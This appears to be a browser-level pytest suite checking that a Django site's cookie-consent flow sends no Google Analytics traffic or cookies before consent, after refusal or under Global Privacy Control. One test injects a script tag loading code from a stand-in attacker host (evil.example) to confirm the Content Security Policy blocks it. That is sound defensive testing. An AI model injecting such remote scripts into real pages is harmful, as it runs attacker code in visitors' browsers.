"""A real browser behind a recording proxy: nothing before a choice, and then what was chosen."""

import pytest
from django.db import connection

from consent.models import ConsentEvent
from tests.consent.silence import (
    ACCEPT,
    HOSTS,
    MAIN,
    MEASUREMENT_ID,
    PATHS,
    REFUSE,
    complaints,
    google_cookies,
    jar,
    kept,
    traces_of_google,
)
from tests.recording import google
from tests.recording.fixtures import proxy, recorded_browser, site, visit

__all__ = ["proxy", "recorded_browser", "site", "visit"]
LANGUAGES = ("az", "en", "ru")
# Without a script in the page its language makes no difference to what a browser does.
WITH_AND_WITHOUT = pytest.mark.parametrize(
    ("language", "javascript"), [("az", True), ("en", True), ("ru", True), ("az", False)]
)


@pytest.fixture(autouse=True)
def _with_google(settings, proxy):
    settings.GA_MEASUREMENT_ID = MEASUREMENT_ID
    google.install(proxy)


def walk(page, site, language):
    """Every public page, and the hosts that only redirect."""
    for path in PATHS:
        page.goto(f"{site}/{language}/{path}")
    for host in HOSTS[1:]:
        page.goto(f"http://{host}/")
        page.goto(f"https://{host}/{language}/privacy-policy/")


@WITH_AND_WITHOUT
def test_nobody_is_asked_for_anything_before_a_choice(site, visit, proxy, language, javascript):
    page = visit(locale=language, javascript=javascript)
    refused = complaints(page)
    walk(page, site, language)
    proxy.record.wait_until_quiet()
    assert proxy.record.hosts == set(HOSTS)
    assert proxy.record.set_cookies() == {}
    assert traces_of_google(proxy.record) == []
    assert jar(page) == {}
    assert refused == []


@WITH_AND_WITHOUT
def test_refusal_is_kept_and_stays_silent(site, visit, proxy, language, javascript):
    page = visit(locale=language, javascript=javascript)
    page.goto(f"{site}/{language}/solutions/")
    page.click(REFUSE)
    assert page.url == f"{site}/{language}/solutions/"
    assert page.locator(".choice").count() == 0
    for path in PATHS[:10]:
        page.goto(f"{site}/{language}/{path}")
    proxy.record.wait_until_quiet()
    assert proxy.record.hosts == set(proxy.record.set_cookies()) == {MAIN}
    assert traces_of_google(proxy.record) == []
    assert jar(page) == {MAIN: {"cookie_choice"}}
    assert kept(page)["value"] == "refused:1.0"
    assert ConsentEvent.objects.count() == 0


@pytest.mark.parametrize("language", LANGUAGES)
def test_acceptance_brings_exactly_the_tag(site, visit, proxy, language):
    """The positive control of the tests above: the same browser, record and walk."""
    page = visit(locale=language)
    refused = complaints(page)
    page.goto(f"{site}/{language}/solutions/?email=somebody@example.com")
    proxy.record.forget()
    page.click(ACCEPT)
    proxy.record.wait_for(google.hits)
    assert proxy.record.hosts == {MAIN, *google.HOSTS}
    assert google.loads(proxy.record) == [MEASUREMENT_ID]
    orders = google.commands(page)
    assert [order[:2] for order in orders[:2]] == [["consent", "default"], ["consent", "update"]]
    assert set(orders[0][2].values()) == {"denied"}
    assert orders[1][2] == {"analytics_storage": "granted"}
    assert [order[0] for order in orders[2:]] == ["js", "config"]
    settings = orders[3][2]
    assert settings["allow_google_signals"] is settings["allow_ad_personalization_signals"] is False
    assert 0 < settings["cookie_expires"] <= 365 * 86400
    names = {name for found in jar(page).values() for name in found}
    assert names == {"cookie_choice", "_ga", f"_ga_{MEASUREMENT_ID.removeprefix('G-')}"}
    cookie = kept(page)
    assert (cookie["domain"], cookie["secure"], cookie["httpOnly"]) == (MAIN, True, True)
    assert cookie["sameSite"] == "Lax"
    assert refused == []


def test_pages_with_something_personal_are_not_counted(site, visit, proxy):
    page = visit()
    refused = complaints(page)
    page.goto(f"{site}/en/")
    page.click(ACCEPT)
    proxy.record.wait_for(google.hits)
    for path in PATHS:
        page.goto(f"{site}/en/{path}", referer="https://elsewhere.example/search?q=name")
    proxy.record.wait_until_quiet()
    assert refused == []
    unmeasured = {"my-data/", "free-consultation/withdrawn/", *PATHS[-3:]}
    measured = {path.partition("?")[0] for path in PATHS} - unmeasured
    seen = google.hits(proxy.record)
    assert {hit["dl"] for hit in seen} == {f"{site}/en/{path}" for path in measured}
    assert {hit.get("dr", "") for hit in seen} <= {"", f"{site}/", "https://elsewhere.example/"}
    asked = [
        request.url + str(request.headers)
        for request in proxy.record.requests
        if request.host in google.HOSTS
    ]
    assert not [text for text in asked if "?q=" in text or "service=" in text]


def test_signal_is_a_refusal_on_every_page(site, visit, proxy):
    page = visit(headers={"Sec-GPC": "1"})
    for path in PATHS:
        page.goto(f"{site}/az/{path}")
        assert page.locator(".choice").count() == 0
    proxy.record.wait_until_quiet()
    assert proxy.record.hosts == {MAIN}
    assert traces_of_google(proxy.record) == []
    assert jar(page) == {}


def test_consent_that_cannot_be_written_brings_no_tag(site, visit, proxy):
    page = visit()
    page.goto(f"{site}/en/")
    with broken("consent_consentevent"):
        page.click(ACCEPT)
        assert page.locator("main .code").inner_text() == "503"
    page.goto(f"{site}/en/")
    proxy.record.wait_until_quiet()
    assert page.locator(".choice").count() == 1
    assert proxy.record.hosts == {MAIN}
    assert traces_of_google(proxy.record) == []
    assert jar(page) == {}


def test_injected_script_is_refused_and_noticed(site, visit):
    """The control of the lists of complaints that must be empty."""
    page = visit()
    refused = complaints(page)
    page.goto(f"{site}/en/")
    page.evaluate(
        "() => { const s = document.createElement('script'); s.src = 'https://evil.example/x.js';"
        " document.body.append(s) }"
    )
    page.wait_for_timeout(300)
    assert refused == ["script-src-elem https://evil.example/x.js"]


class broken:  # noqa: N801 - reads as a statement
    """The database takes no new rows in a table, as with a full disk."""

    def __init__(self, table: str) -> None:
        self.table = table

    def _run(self, statement: str) -> None:
        with connection.cursor() as cursor:
            cursor.execute(statement)

    def __enter__(self) -> None:
        self._run(
            "CREATE FUNCTION test_broken() RETURNS trigger LANGUAGE plpgsql AS"
            " $$ BEGIN RAISE EXCEPTION 'disk full' USING ERRCODE = '53100'; END $$"
        )
        self._run(
            f"CREATE TRIGGER test_broken BEFORE INSERT ON {self.table}"
            " FOR EACH ROW EXECUTE FUNCTION test_broken()"
        )

    def __exit__(self, *_: object) -> None:
        self._run("DROP FUNCTION test_broken() CASCADE")


def test_hosts_that_redirect_do_nothing_else(site, visit, proxy):
    page = visit()
    for host in HOSTS[1:]:
        page.goto(f"https://{host}/")
        assert page.url.startswith(f"{site}/en/")
        answers = [exchange.response for exchange in proxy.record.to(host)]
        assert [answer.status for answer in answers if answer] == [301] * len(answers)
        assert not [answer for answer in answers if answer and answer.all("set-cookie")]
        assert google_cookies(page) == []
